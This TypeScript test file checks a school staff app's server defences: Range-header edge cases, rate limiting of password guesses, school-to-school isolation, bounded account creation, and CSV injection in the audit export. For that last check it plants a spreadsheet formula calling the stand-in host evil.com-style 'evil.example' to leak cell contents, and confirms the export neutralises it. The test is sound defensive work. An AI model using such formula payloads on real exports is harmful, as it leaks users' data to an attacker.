/**
 * What a signed-in member of staff cannot do at the server's edges, on
 * every database engine: break static files with a Range header, lock a
 * colleague out by guessing wrong, plant a formula in the audit export,
 * learn what exists in another school, or burn the server's CPU through
 * the staff-accounts route.
 */
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { serve } from '@hono/node-server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatHlc, STAFF_ACCOUNTS_PER_REQUEST, PROTOCOL_VERSION } from '../../src/domain';
import type { Mutation, PushResponse, StaffAccountResult } from '../../src/domain';
import { createApp } from '../../server/app';
import type { Db } from '../../server/db/connection';
import { DEMO_SCHOOL_ID, demoId, seedDemoSchool } from '../../server/demo/seed';
import { setUpSchool } from '../../server/store/school-setup';
import { findRecord } from '../../server/store/sync-store';
import { appRequests } from '../helpers/app-requests';
import { testEngines } from './support';

const PASSWORD = 'server-edges-password';
const NOW = Date.parse('2026-11-23T10:00:00.000Z');

describe.each(testEngines())('a member of staff at the server edges on $name', (engine) => {
  let db: Db;
  let close: () => Promise<void>;
  let app: ReturnType<typeof createApp>;
  const clock = { nowMs: NOW };
  const address = '10.1.0.1';

  beforeAll(async () => {
    ({ db, close } = await engine.open());
    await seedDemoSchool(db, { password: PASSWORD, nowMs: NOW - 86_400_000 });
    app = createApp({
      db,
      now: () => clock.nowMs,
      logError: () => {},
      clientAddress: () => address,
    });
  });
  afterAll(async () => {
    await close?.();
  });

  const { post, get } = appRequests(() => app);

  type Device = { token: string; deviceId: string; staffId: string; seq: number };
  const signIn = async (email: string, password = PASSWORD): Promise<Device> => {
    const deviceId = randomUUID();
    const res = await post('/api/v1/auth/sign-in', { email, password, deviceId });
    expect(res.status).toBe(200);
    const body = (await res.json()) as { token: string; staff: { id: string } };
    return { token: body.token, deviceId, staffId: body.staff.id, seq: 0 };
  };
  /** Pushes patches from the device's own session, one seq after another. */
  const push = async (
    device: Device,
    patches: Pick<Mutation, 'entity' | 'entityId' | 'data'>[],
  ) => {
    const mutations = patches.map((patch): Mutation => {
      device.seq += 1;
      return {
        id: randomUUID(),
        deviceId: device.deviceId,
        seq: device.seq,
        hlc: formatHlc({ wallMs: clock.nowMs, counter: device.seq, deviceId: device.deviceId }),
        kind: 'patch',
        ...patch,
      };
    });
    const res = await post(
      '/api/v1/sync/push',
      { protocolVersion: PROTOCOL_VERSION, deviceId: device.deviceId, mutations },
      device.token,
    );
    expect(res.status).toBe(200);
    return (await res.json()) as PushResponse;
  };
  /** Sets a first password with an activation code and signs in with it, as a new person does. */
  const activate = async (code: string | undefined, password = 'first-own-password') => {
    const res = await post('/api/v1/auth/activate', { code, password });
    expect(res.status).toBe(200);
    return password;
  };
  const createAccounts = async (senco: Device, staffIds: string[]) => {
    const res = await post('/api/v1/staff-accounts', { staffIds }, senco.token);
    expect(res.status).toBe(200);
    return ((await res.json()) as { results: StaffAccountResult[] }).results;
  };

  describe('static files with a Range header', () => {
    // A small built app: one script of 100 bytes and the shell.
    const script = Array.from({ length: 100 }, (_, i) => String.fromCharCode(65 + (i % 26))).join(
      '',
    );
    const shell = '<!doctype html><title>Waymark</title>';
    let dir: string;
    let base: string;
    let stop: () => Promise<void>;
    const logged: string[] = [];

    beforeAll(async () => {
      dir = mkdtempSync(join(tmpdir(), 'waymark-static-'));
      writeFileSync(join(dir, 'app.js'), script);
      writeFileSync(join(dir, 'index.html'), shell);
      const staticApp = createApp({
        db,
        now: () => clock.nowMs,
        staticDir: dir,
        logError: (message) => logged.push(message),
        clientAddress: () => address,
      });
      // A real HTTP server: a Content-Length the body does not fill shows
      // only on the wire, as a client left waiting.
      const server = serve({ fetch: staticApp.fetch, port: 0, hostname: '127.0.0.1' });
      await new Promise<void>((resolve) => server.once('listening', () => resolve()));
      base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      stop = () => new Promise<void>((resolve) => server.close(() => resolve()));
    });
    afterAll(async () => {
      await stop?.();
      if (dir) rmSync(dir, { recursive: true, force: true });
    });

    /** The answer in full, or a failure if the body does not arrive within 2 s. */
    const fetchRange = async (path: string, range: string) => {
      const res = await fetch(`${base}${path}`, {
        headers: { Range: range },
        signal: AbortSignal.timeout(2_000),
      });
      const body = await res.text();
      return { status: res.status, headers: res.headers, body };
    };

    it('answers a range with its last byte before its first with the whole file, never a 500', async () => {
      for (const path of ['/app.js', '/lesson/today']) {
        const res = await fetchRange(path, 'bytes=5-1');
        expect(res.status).toBe(200);
        expect(res.body).toBe(path === '/app.js' ? script : shell);
      }
      expect(logged).toEqual([]);
    });

    it('answers a range past the end of a small file with 416 and the size, never a 206 without a body', async () => {
      const started = performance.now();
      const res = await fetchRange('/app.js', 'bytes=3000-3500');
      expect(res.status).toBe(416);
      expect(res.headers.get('content-range')).toBe('bytes */100');
      expect(res.body).toBe('');
      expect(performance.now() - started).toBeLessThan(1_000);
      const huge = await fetchRange('/app.js', 'bytes=99999999999999999999-');
      expect(huge.status).toBe(416);
      expect(huge.headers.get('content-range')).toBe('bytes */100');
    });

    it('sends exactly the bytes of a range it can satisfy, and the whole file for one it ignores', async () => {
      const cases: [range: string, status: number, body: string, contentRange: string | null][] = [
        ['bytes=10-19', 206, script.slice(10, 20), 'bytes 10-19/100'],
        // Runs past the end: cut at the last byte, with a length that matches.
        ['bytes=90-150', 206, script.slice(90), 'bytes 90-99/100'],
        ['bytes=95-', 206, script.slice(95), 'bytes 95-99/100'],
        ['bytes=-5', 206, script.slice(95), 'bytes 95-99/100'],
        ['BYTES=0-0', 206, script.slice(0, 1), 'bytes 0-0/100'],
        ['bytes=0-1,5-6', 200, script, null],
        ['bytes=a-b', 200, script, null],
        ['items=0-1', 200, script, null],
        ['bytes=-0', 416, '', 'bytes */100'],
      ];
      for (const [range, status, body, contentRange] of cases) {
        const res = await fetchRange('/app.js', range);
        expect({ range, status: res.status, body: res.body }).toEqual({ range, status, body });
        expect(res.headers.get('content-range')).toBe(contentRange);
        if (status !== 416) {
          expect(res.headers.get('content-length')).toBe(String(new Blob([body]).size));
        }
      }
      expect(logged).toEqual([]);
    });
  });

  describe("guessing a colleague's password", () => {
    // Its own app, so these guesses meet fresh limits, and an address per request.
    let from = '10.2.0.1';
    let guessApp: ReturnType<typeof createApp>;
    beforeAll(() => {
      guessApp = createApp({
        db,
        now: () => clock.nowMs,
        logError: () => {},
        clientAddress: () => from,
      });
    });
    const attempt = async (at: string, email: string, password: string) => {
      from = at;
      const res = await guessApp.request('/api/v1/auth/sign-in', {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ email, password, deviceId: randomUUID() }),
      });
      return res;
    };
    const statuses = (list: number[]) =>
      list.reduce<Record<number, number>>((n, s) => ({ ...n, [s]: (n[s] ?? 0) + 1 }), {});

    it('lets the owner in with the right password from their own place after 100 wrong guesses from elsewhere', async () => {
      const started = clock.nowMs;
      const owner = 'senco@demo.school';
      const home = '10.2.0.1';
      expect((await attempt(home, owner, PASSWORD)).status).toBe(200);

      // 100 wrong guesses, each from a different address, the email in any case.
      const guesses: number[] = [];
      for (let i = 0; i < 100; i++) {
        const email = i % 2 ? owner.toUpperCase() : owner;
        guesses.push((await attempt(`10.66.${i >> 8}.${i & 255}`, email, `guess-${i}`)).status);
      }
      // The places the account never signed in from share a small budget of
      // guesses; after it, they wait.
      expect(statuses(guesses)).toEqual({ 401: 20, 429: 80 });
      // Even the right password from a new place waits now: guessing stays bounded.
      expect((await attempt('10.66.9.9', owner, PASSWORD)).status).toBe(429);

      // The owner, from where they sign in, is not kept out: a slip, then the right password.
      expect((await attempt(home, owner, 'a slip of the finger')).status).toBe(401);
      const signedIn = await attempt(home, owner, PASSWORD);
      expect(signedIn.status).toBe(200);
      expect(((await signedIn.json()) as { token: string }).token).toMatch(/\S{20,}/);

      // Another round of guesses, as an attacker would repeat all day: the owner still gets in.
      clock.nowMs += 15 * 60_000 + 1;
      for (let i = 0; i < 30; i++) await attempt(`10.67.0.${i}`, owner, `again-${i}`);
      expect((await attempt(home, owner, PASSWORD)).status).toBe(200);
      clock.nowMs = started;
    });

    it('slows down the address that guesses, and only for the account it guesses', async () => {
      const started = clock.nowMs;
      const owner = 'teacher@demo.school';
      const ownerPlace = '10.3.0.1';
      const attacker = '10.77.0.1';
      expect((await attempt(ownerPlace, owner, PASSWORD)).status).toBe(200);
      const guesses: number[] = [];
      for (let i = 0; i < 12; i++) guesses.push((await attempt(attacker, owner, `g-${i}`)).status);
      expect(guesses).toEqual([...Array<number>(10).fill(401), 429, 429]);
      const slowed = await attempt(attacker, owner, PASSWORD);
      expect(slowed.status).toBe(429);
      expect(Number(slowed.headers.get('Retry-After'))).toBeGreaterThan(0);
      expect(((await slowed.json()) as { error: { code: string } }).error.code).toBe(
        'rate_limited',
      );
      // The owner, elsewhere, signs in; the guessing address may still use its own account.
      expect((await attempt(ownerPlace, owner, PASSWORD)).status).toBe(200);
      expect((await attempt(attacker, 'ta@demo.school', PASSWORD)).status).toBe(200);
      // After the window the guessing address may try again.
      clock.nowMs += 15 * 60_000 + 1;
      expect((await attempt(attacker, owner, 'g-again')).status).toBe(401);
      clock.nowMs = started;
    });
  });

  describe('the audit export', () => {
    it('neutralises a staff name that a spreadsheet would run as a formula', async () => {
      const senco = await signIn('senco@demo.school');
      // A colleague's name as the roster import brought it in, made to run
      // a formula when the SENCo opens the audit log in a spreadsheet.
      const planted = '=HYPERLINK("http://evil.example/?"&A1,"open")';
      const staffId = randomUUID();
      const pushed = await push(senco, [
        {
          entity: 'staff',
          entityId: staffId,
          data: { name: planted, email: 'planted@demo.school', role: 'senco', isActive: true },
        },
      ]);
      expect(pushed.results[0]?.status).toBe('applied');
      const [account] = await createAccounts(senco, [staffId]);
      expect(account?.status).toBe('created');
      const planter = await signIn('planted@demo.school', await activate(account!.activationCode));
      const childId = demoId('child:y3:1');
      expect((await post('/api/v1/audit/views', { childId }, planter.token)).status).toBe(204);

      const csv = await get(`/api/v1/audit/export?childId=${childId}`, senco.token);
      expect(csv.status).toBe(200);
      const text = await csv.text();
      const line = text.split(/\r?\n/).find((row) => row.includes('HYPERLINK'));
      // Every cell of the planted name starts with a quote, so it opens as text.
      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
      expect(line).not.toMatch(/(^|,)"?=/);
    });
  });

  describe('creating sign-in accounts', () => {
    it('costs no password hash for ids that get no account, and bounds one request', async () => {
      const senco = await signIn('senco@demo.school');
      const unknown = Array.from({ length: STAFF_ACCOUNTS_PER_REQUEST }, () => randomUUID());
      const startedCpu = process.cpuUsage();
      const started = performance.now();
      const results = await createAccounts(senco, unknown);
      const elapsedMs = performance.now() - started;
      const cpu = process.cpuUsage(startedCpu);
      expect(results.map((r) => r.status)).toEqual(unknown.map(() => 'not_found'));
      // A password hash is about 35 ms of CPU: 50 of them would be well
      // over a second; 50 lookups are a few milliseconds each.
      expect(elapsedMs).toBeLessThan(1_000);
      expect((cpu.user + cpu.system) / 1_000).toBeLessThan(1_000);

      // More ids than one request may create accounts for: refused before any work.
      const tooMany = Array.from({ length: STAFF_ACCOUNTS_PER_REQUEST + 1 }, () => randomUUID());
      const refused = await post('/api/v1/staff-accounts', { staffIds: tooMany }, senco.token);
      expect(refused.status).toBe(400);
    });

    it('still answers each id in order, creating only the new ones', async () => {
      const senco = await signIn('senco@demo.school');
      const fresh = randomUUID();
      const twin = randomUUID();
      await push(senco, [
        {
          entity: 'staff',
          entityId: fresh,
          data: { name: 'Rae Fresh', email: 'rae.fresh@demo.school', role: 'ta', isActive: true },
        },
        {
          entity: 'staff',
          entityId: twin,
          data: { name: 'Rae Twin', email: 'rae.fresh@demo.school', role: 'ta', isActive: true },
        },
      ]);
      const missing = randomUUID();
      const results = await createAccounts(senco, [missing, fresh, twin, fresh]);
      expect(results.map((r) => [r.staffId, r.status])).toEqual([
        [missing, 'not_found'],
        [fresh, 'created'],
        [twin, 'email_taken'],
      ]);
      const again = await createAccounts(senco, [fresh]);
      expect(again).toEqual([expect.objectContaining({ staffId: fresh, status: 'exists' })]);
    });
  });
  describe('another school', () => {
    // Riverside shares the server with the demo school (Oakfield).
    const RIVERSIDE = randomUUID();
    const RIVERSIDE_PASSWORD = 'riverside-password';
    const riversideSenco = 'senco@riverside.school';
    const TOM = demoId('staff:tom.reid@demo.school');
    beforeAll(async () => {
      await db.transaction().execute((trx) =>
        setUpSchool(trx, {
          id: RIVERSIDE,
          name: 'Riverside Primary',
          staff: [
            {
              id: randomUUID(),
              name: 'Rita Banks',
              email: riversideSenco,
              role: 'senco',
              password: RIVERSIDE_PASSWORD,
            },
          ],
          deviceId: randomUUID(),
          nowMs: NOW - 86_400_000,
          newId: randomUUID,
        }),
      );
    });
    const staffRecord = (entityId: string, name: string, email: string) => ({
      entity: 'staff' as const,
      entityId,
      data: { name, email, role: 'teacher', isActive: true },
    });
    /** Sign-in as the server answers it: the status and, on success, the school. */
    const signInAs = async (email: string, password: string) => {
      const res = await post('/api/v1/auth/sign-in', { email, password, deviceId: randomUUID() });
      const body = (await res.json()) as { token?: string; staff?: { schoolId: string } };
      return { status: res.status, schoolId: body.staff?.schoolId, token: body.token };
    };

    it('gives an address that has an account in another school an account here, and the password decides which school signs in', async () => {
      const rita = await signIn(riversideSenco, RIVERSIDE_PASSWORD);
      // Ellie has an Oakfield account; Riverside's record for her, and one for
      // an address no school has, must get the same answer.
      const ellie = randomUUID();
      const fresh = randomUUID();
      const pushed = await push(rita, [
        staffRecord(ellie, 'Ellie Green', 'Ellie.Green@demo.school'),
        staffRecord(fresh, 'Nia Fresh', 'nia.fresh@riverside.school'),
      ]);
      expect(pushed.results.map((r) => r.status)).toEqual(['applied', 'applied']);
      const results = await createAccounts(rita, [ellie, fresh]);
      expect(results.map((r) => r.status)).toEqual(['created', 'created']);
      const riversidePassword = await activate(results[0]!.activationCode, 'riverside-ellie-pw');

      // One address, two schools: each password opens its own school's account.
      expect(await signInAs('ellie.green@demo.school', PASSWORD)).toMatchObject({
        status: 200,
        schoolId: DEMO_SCHOOL_ID,
      });
      expect(await signInAs('ELLIE.GREEN@demo.school', riversidePassword)).toMatchObject({
        status: 200,
        schoolId: RIVERSIDE,
      });
      expect((await signInAs('ellie.green@demo.school', 'neither-password')).status).toBe(401);
      expect((await signInAs('nobody@riverside.school', PASSWORD)).status).toBe(401);

      // Within one school the address is still taken.
      const twin = randomUUID();
      await push(rita, [staffRecord(twin, 'Ellie Twin', 'ellie.green@demo.school')]);
      const [again] = await createAccounts(rita, [twin]);
      expect(again?.status).toBe('email_taken');
    });

    it("answers another school's staff id exactly as a fresh one, and leaves that person alone", async () => {
      const rita = await signIn(riversideSenco, RIVERSIDE_PASSWORD);
      const tomAtOakfield = await signIn('tom.reid@demo.school');
      // Riverside's own record under Oakfield's staff id for Tom, and one under a fresh id.
      const fresh = randomUUID();
      await push(rita, [
        staffRecord(TOM, 'Tom Rivers', 'tom.rivers@riverside.school'),
        staffRecord(fresh, 'Fay Fresh', 'fay.fresh@riverside.school'),
      ]);
      const results = await createAccounts(rita, [TOM, fresh]);
      expect(results.map((r) => r.status)).toEqual(['created', 'created']);
      const riversideTom = await signIn(
        'tom.rivers@riverside.school',
        await activate(results[0]!.activationCode, 'riverside-tom-pw'),
      );
      expect(riversideTom.staffId).toBe(TOM);

      // Deactivating Riverside's person under that id ends only Riverside's sessions.
      const unknown = randomUUID();
      expect((await post(`/api/v1/staff/${unknown}/deactivate`, {}, rita.token)).status).toBe(404);
      expect((await post(`/api/v1/staff/${TOM}/deactivate`, {}, rita.token)).status).toBe(200);
      expect((await get('/api/v1/sync/pull?after=0&limit=1', riversideTom.token)).status).toBe(401);
      expect((await get('/api/v1/sync/pull?after=0&limit=1', tomAtOakfield.token)).status).toBe(
        200,
      );
      // Oakfield's SENCo still sees her Tom, active, under his own name.
      const senco = await signIn('senco@demo.school');
      const list = await get('/api/v1/staff', senco.token);
      const { staff } = (await list.json()) as {
        staff: { id: string; name: string; isActive: boolean }[];
      };
      expect(staff.filter((s) => s.id === TOM)).toEqual([
        expect.objectContaining({ name: 'Tom Reid', isActive: true }),
      ]);
    });

    it('answers a mutation id another school already used exactly as a fresh one', async () => {
      const rita = await signIn(riversideSenco, RIVERSIDE_PASSWORD);
      const senco = await signIn('senco@demo.school');
      const used = await push(senco, [staffRecord(randomUUID(), 'Oak Person', 'oak@demo.school')]);
      const usedId = used.results[0]!.id;
      expect(used.results[0]?.status).toBe('applied');

      // Riverside's device sends a change under that id, and one under a fresh id.
      const reusedRecord = randomUUID();
      rita.seq += 1;
      const reused: Mutation = {
        id: usedId,
        deviceId: rita.deviceId,
        seq: rita.seq,
        hlc: formatHlc({ wallMs: clock.nowMs, counter: rita.seq, deviceId: rita.deviceId }),
        kind: 'patch',
        ...staffRecord(reusedRecord, 'River Person', 'river@riverside.school'),
      };
      const send = async (mutations: Mutation[]) => {
        const res = await post(
          '/api/v1/sync/push',
          { protocolVersion: PROTOCOL_VERSION, deviceId: rita.deviceId, mutations },
          rita.token,
        );
        expect(res.status).toBe(200);
        return ((await res.json()) as PushResponse).results;
      };
      expect(await send([reused])).toEqual([{ id: usedId, status: 'applied' }]);
      expect(await findRecord(db, RIVERSIDE, 'staff', reusedRecord)).toMatchObject({
        data: expect.objectContaining({ name: 'River Person' }),
      });
      // A retry is a duplicate in Riverside, and Oakfield's answer for the id is unchanged.
      expect(await send([reused])).toEqual([{ id: usedId, status: 'duplicate' }]);
      const oakRetry = await post(
        '/api/v1/sync/push',
        {
          protocolVersion: PROTOCOL_VERSION,
          deviceId: senco.deviceId,
          mutations: [
            {
              id: usedId,
              deviceId: senco.deviceId,
              seq: senco.seq,
              hlc: formatHlc({ wallMs: clock.nowMs, counter: senco.seq, deviceId: senco.deviceId }),
              kind: 'patch',
              ...staffRecord(randomUUID(), 'Oak Person', 'oak@demo.school'),
            },
          ],
        },
        senco.token,
      );
      expect(((await oakRetry.json()) as PushResponse).results).toEqual([
        { id: usedId, status: 'duplicate' },
      ]);
    });
  });
});
